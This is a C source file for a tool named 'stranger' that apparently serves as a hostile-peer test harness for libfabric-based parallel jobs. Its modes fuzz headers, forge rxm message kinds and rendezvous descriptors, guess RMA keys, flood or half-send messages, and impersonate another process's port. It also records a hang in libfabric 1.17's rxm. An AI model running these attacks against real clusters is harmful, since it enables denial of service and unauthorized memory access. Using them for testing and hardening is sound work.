/* One who is not of the job, but speaks libfabric and has found a PE's port. ADDRESS PORT MODE ...
 *
 *   requests      with a wrong seal, of every length
 *   rma           the same, then puts with keys that may be guessed
 *   long N        N endpoints, each of which sends messages that are too long
 *   unended N S   N endpoints, each of which begins a message and does not end it; stays for S s
 *   heads A B N   an endpoint for each N-th bit of libfabric's heads from A to before B, turned in
 *                 what it sends
 *   fetched N     N endpoints that send messages whose rest is to be fetched, and go away
 *   kinds K N C   N endpoints whose messages are of rxm's kind K, of one operation after the other,
 *                 and of the connection that the other side has as its C-th (-1: over which they
 * come) claim PORT S  says that it is the PE at that port, and stays for S seconds */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static struct fid_ep* endpoint;
static int cuts; /* of what is long only the beginning leaves */
static struct fid_cq* queue;
static in_port_t claimed; /* in the byte order of the network; 0: none */

/* Of this program and, since it is exported, of libfabric: the port at which it listens. */
int getsockname(int file, struct sockaddr* address, socklen_t* length) {
    static int (*real)(int, struct sockaddr*, socklen_t*);
    if (!real) real = (int (*)(int, struct sockaddr*, socklen_t*))dlsym(RTLD_NEXT, "getsockname");
    const int result = real(file, address, length);
    int listens = 0;
    socklen_t size = sizeof listens;
    if (result == 0 && claimed != 0 && address->sa_family == AF_INET &&
        getsockopt(file, SOL_SOCKET, SO_ACCEPTCONN, &listens, &size) == 0 && listens)
        ((struct sockaddr_in*)(void*)address)->sin_port = claimed;
    return result;
}

/* Likewise. */
enum { kLong = 1000, kBeginning = 200 };
static void cut(const struct msghdr* message, struct iovec* parts, struct msghdr* begun) {
    size_t left = kBeginning;
    *begun = *message;
    begun->msg_iov = parts;
    for (size_t i = 0; i < message->msg_iovlen; ++i) {
        parts[i] = message->msg_iov[i];
        if (parts[i].iov_len > left) parts[i].iov_len = left;
        left -= parts[i].iov_len;
    }
}
/* Likewise: what stands in front of a short message is 16 bytes of tcp's, then 64 of rxm's. */
enum { kHeads = 80, kShort = 64, kPlaces = 104 };
static size_t payload = kShort;
static int turns = -1; /* the bit of it; -1: none */
static int turned;     /* messages */
/* Likewise: of what kind it is said to be, to what operation and to what connection. -1: as it is.
 */
enum { kKindAt = 17, kConnectionAt = 24, kOperationAt = 32 };
static int kind = -1, operation, connection = -1;
static void turn(const struct msghdr* message, char* whole) {
    size_t at = 0;
    for (size_t i = 0; i < message->msg_iovlen; at += message->msg_iov[i++].iov_len)
        memcpy(whole + at, message->msg_iov[i].iov_base, message->msg_iov[i].iov_len);
    if (turns >= 0) whole[turns / 8] = (char)(whole[turns / 8] ^ 1 << turns % 8);
    if (kind >= 0) {
        whole[kKindAt] = (char)kind;
        whole[kOperationAt] = (char)operation;
    }
    if (connection >= 0) whole[kConnectionAt] = (char)connection;
    ++turned;
}
ssize_t sendmsg(int file, const struct msghdr* message, int flags) {
    static ssize_t (*real)(int, const struct msghdr*, int);
    if (!real) real = (ssize_t(*)(int, const struct msghdr*, int))dlsym(RTLD_NEXT, "sendmsg");
    size_t bytes = 0;
    for (size_t i = 0; i < message->msg_iovlen; ++i)
        bytes += message->msg_iov[i].iov_len;
    struct iovec parts[16];
    struct msghdr begun;
    if ((turns >= 0 || kind >= 0) && bytes == kHeads + payload) {
        char whole[kHeads + kPlaces];
        turn(message, whole);
        parts[0] = (struct iovec){whole, bytes};
        begun = (struct msghdr){.msg_iov = parts, .msg_iovlen = 1};
        return real(file, &begun, flags);
    }
    if (!cuts || bytes < kLong || message->msg_iovlen > 16) return real(file, message, flags);
    cut(message, parts, &begun);
    return real(file, &begun, flags) > 0 ? (ssize_t)bytes : -1;
}
ssize_t send(int file, const void* from, size_t bytes, int flags) {
    struct iovec part = {(void*)from, bytes};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
    return sendmsg(file, &message, flags);
}

static void need(const char* what, long result) {
    if (result >= 0) return;
    fprintf(stderr, "stranger: %s: %s\n", what, fi_strerror((int)-result));
    exit(1);
}

/* Completions may be errors: that is what is wanted. */
static void look(double seconds) {
    struct timespec begin, now;
    clock_gettime(CLOCK_MONOTONIC, &begin);
    do {
        struct fi_cq_msg_entry entry;
        struct fi_cq_err_entry error = {0};
        if (fi_cq_read(queue, &entry, 1) == -FI_EAVAIL) fi_cq_readerr(queue, &error, 0);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((double)(now.tv_sec - begin.tv_sec) + (double)(now.tv_nsec - begin.tv_nsec) * 1e-9 <
             seconds);
}

static struct fi_info* info;
static struct fid_domain* domain;
static fi_addr_t peer;
static char bytes[8192];
static struct fi_context2 contexts[512];

static void open_endpoint(struct sockaddr_in* victim) {
    struct fid_av* table;
    struct fi_av_attr addresses = {.type = FI_AV_TABLE, .count = 1};
    struct fi_cq_attr completions = {.format = FI_CQ_FORMAT_MSG, .size = 1024};
    need("fi_av_open", fi_av_open(domain, &addresses, &table, NULL));
    need("fi_cq_open", fi_cq_open(domain, &completions, &queue, NULL));
    need("fi_endpoint", fi_endpoint(domain, info, &endpoint, NULL));
    need("fi_ep_bind", fi_ep_bind(endpoint, &table->fid, 0));
    need("fi_ep_bind", fi_ep_bind(endpoint, &queue->fid, FI_TRANSMIT | FI_RECV));
    need("fi_enable", fi_enable(endpoint));
    need("fi_av_insert", fi_av_insert(table, victim, 1, &peer, 0, NULL) == 1 ? 0 : -FI_EINVAL);
}

/* False if it cannot be sent: the other side has hung up. */
static int send_bytes(size_t length, int index) {
    for (int tries = 0; tries < 2000; ++tries) {
        const ssize_t result = fi_send(endpoint, bytes, length, NULL, peer, &contexts[index % 512]);
        if (result != -FI_EAGAIN) return result == 0;
        look(0.001);
    }
    return 0;
}

static void send_requests(void) {
    int sent = 0, fitting = 0; /* into a receive buffer: longer ones may end the connection */
    for (size_t length = 0; length <= 4096; length += length < 200 ? 1 : 97) {
        for (size_t i = 0; i < length; ++i)
            bytes[i] = (char)rand();
        if (!send_bytes(length, sent)) break;
        ++sent;
        if (length <= 2048) ++fitting;
    }
    look(0.5);
    printf("sent=%d fitting=%d\n", sent, fitting);
}

static void guess_keys(void) {
    memset(bytes, 0x55, sizeof bytes);
    for (uint64_t key = 0; key < 12; ++key) {
        for (int tries = 0; tries < 1000; ++tries) {
            const size_t length = key < 4 ? 64 : sizeof bytes;
            const ssize_t result =
                key < 8 ? fi_write(endpoint, bytes, length, NULL, peer, 0, key % 4, &contexts[key])
                        : fi_read(endpoint, bytes, length, NULL, peer, 0, key % 4, &contexts[key]);
            if (result != -FI_EAGAIN) break;
            look(0.001);
        }
        look(0.1);
    }
}

/* How many messages have left with that bit turned. By a process of its own: an answer may be more
 * than libfabric bears. */
static int send_turned(struct sockaddr_in* victim, int bit, double stays) {
    const pid_t child = fork();
    if (child == 0) {
        open_endpoint(victim);
        turns = bit;
        for (int i = 0; i < 3 && send_bytes(payload, i); ++i)
            look(stays / 4);
        look(stays / 2);
        _exit(turned);
    }
    int status = 0;
    need("waitpid", child > 0 && waitpid(child, &status, 0) == child ? 0 : -FI_EOTHER);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static int send_kinds(struct sockaddr_in* victim, int number) {
    int sent = 0;
    for (int more = 1; operation < number && more != 0; ++operation)
        sent += more = send_turned(victim, -1, 0.1);
    return sent;
}

/* A message that is said to be a part of one: libfabric 1.17's rxm then looks for the others
 * without end, and the PE serves nobody any more. */
enum { kPart = 8 * 17 };
static int send_heads(struct sockaddr_in* victim, int bit, int end, int step) {
    int sent = 0;
    for (int more = 1; bit < end && more != 0; bit += step) {
        if (bit != kPart) sent += more = send_turned(victim, bit, 0.02);
    }
    return sent;
}

/* What rxm then takes for its own: four places here, and how many of them count. */
static int send_fetched(struct sockaddr_in* victim, int number) {
    const uint64_t place[3] = {0, 16, 1}; /* address, bytes, key */
    int sent = 0;
    for (int i = 0; i < 4; ++i)
        memcpy(bytes + i * (int)sizeof place, place, sizeof place);
    bytes[4 * sizeof place] = 4;
    payload = kPlaces;
    for (int more = 1; number != 0 && more != 0; --number)
        sent += more = send_turned(victim, 8 * 17 + 1, 0);
    return sent;
}

int main(int argc, char** argv) {
    if (argc < 4) return 2;
    struct sockaddr_in victim = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2]))};
    inet_pton(AF_INET, argv[1], &victim.sin_addr);
    const char* const mode = argv[3];
    const int number = argc > 4 ? atoi(argv[4]) : 1;
    if (strcmp(mode, "claim") == 0) claimed = htons((uint16_t)number);
    /* As the job's PEs have it: rxm itself refuses who has another one. */
    setenv("FI_OFI_RXM_BUFFER_SIZE", "4096", 1);
    struct fi_info* hints = fi_allocinfo();
    hints->caps = FI_MSG | FI_RMA;
    hints->mode = FI_CONTEXT | FI_CONTEXT2;
    hints->ep_attr->type = FI_EP_RDM;
    hints->addr_format = FI_SOCKADDR_IN;
    hints->domain_attr->av_type = FI_AV_TABLE;
    hints->fabric_attr->prov_name = strdup("tcp;ofi_rxm");
    need("fi_getinfo", fi_getinfo(FI_VERSION(1, 17), NULL, NULL, 0, hints, &info));
    struct fid_fabric* fabric;
    need("fi_fabric", fi_fabric(info->fabric_attr, &fabric, NULL));
    need("fi_domain", fi_domain(fabric, info, &domain, NULL));
    srand(1);
    if (strcmp(mode, "unended") == 0) {
        int begun = 0;
        for (int i = 0; i < number; ++i) {
            open_endpoint(&victim);
            cuts = 1;
            begun += send_bytes(2000, i);
            look(0.02);
            cuts = 0;
        }
        printf("begun=%d\n", begun);
        fflush(stdout);
        look(argc > 5 ? atof(argv[5]) : 1);
        return 0;
    }
    if (strcmp(mode, "long") == 0) {
        int sent = 0;
        for (int i = 0; i < number; ++i) {
            open_endpoint(&victim);
            for (int j = 0; j < 4; ++j)
                sent += send_bytes(argc > 5 ? (size_t)atoi(argv[5]) : 4000, j);
            look(0.01);
        }
        look(0.5);
        printf("sent=%d\n", sent);
        return 0;
    }
    if (strcmp(mode, "fetched") == 0) {
        printf("sent=%d\n", send_fetched(&victim, number));
        return 0;
    }
    if (strcmp(mode, "kinds") == 0 && argc > 6) {
        kind = number;
        connection = atoi(argv[6]);
        printf("sent=%d\n", send_kinds(&victim, atoi(argv[5])));
        return 0;
    }
    if (strcmp(mode, "heads") == 0 && argc > 6) {
        printf("sent=%d\n", send_heads(&victim, number, atoi(argv[5]), atoi(argv[6])));
        return 0;
    }
    open_endpoint(&victim);
    send_requests();
    if (strcmp(mode, "rma") == 0) guess_keys();
    if (claimed != 0) look(argc > 5 ? atof(argv[5]) : 1);
    return 0;
}
